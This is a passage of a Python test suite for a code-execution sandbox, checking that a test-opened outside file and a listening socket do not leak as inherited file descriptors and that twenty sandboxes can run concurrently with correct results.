    assert {p.name: p.stat().st_size for p in work.glob("beat*")} == sizes
    assert host_processes_with(token) == []


def test_inherited_file_descriptors_are_only_stdio(sandbox: Sandbox, work: Path, outside: Path):
    secret_fd = os.open(outside, os.O_RDONLY)
    os.set_inheritable(secret_fd, True)
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.set_inheritable(True)
    try:
        code = """
        fds = {}
        for name in os.listdir("/proc/self/fd"):
            try:
                fds[name] = os.readlink("/proc/self/fd/" + name)
            except OSError:
                pass
        out["fds"] = fds
        """
        result = run_inside(sandbox, code, policy(work))
        extra = {fd: target for fd, target in result.data["fds"].items() if int(fd) > 2}
        listing = [fd for fd, target in extra.items() if target.startswith("/proc/")]
        assert len(listing) <= 1  # the directory being listed
        others = {fd: t for fd, t in extra.items() if fd not in listing}
        assert all(t.startswith("socket:") for t in others.values()), others  # only a gateway socket may remain
        assert len(others) <= 1
        assert str(outside) not in str(result.data["fds"])
    finally:
        os.close(secret_fd)
        listener.close()


# --- load -----------------------------------------------------------------------------------------


def test_twenty_sandboxes_at_once(sandbox: Sandbox, tmp_path: Path):
    results: dict[int, tuple[int, str]] = {}
    code = """
    import hashlib
    data = bytes(range(256)) * 4096
    digest = hashlib.sha256(data).hexdigest()
    open("out.txt", "w").write(digest)
    out["digest"] = digest
    """

    def one(i: int) -> None:
        folder = tmp_path / f"w{i}"
        folder.mkdir()
        result = run_inside(sandbox, code, policy(folder, timeout_s=120, memory_mb=128))
        results[i] = (result.returncode, result.data.get("digest", result.stderr[-300:]))

    threads = [threading.Thread(target=one, args=(i,)) for i in range(20)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    expected = hashlib.sha256(bytes(range(256)) * 4096).hexdigest()
    assert results == {i: (0, expected) for i in range(20)}
    assert all((tmp_path / f"w{i}" / "out.txt").read_text() == expected for i in range(20))
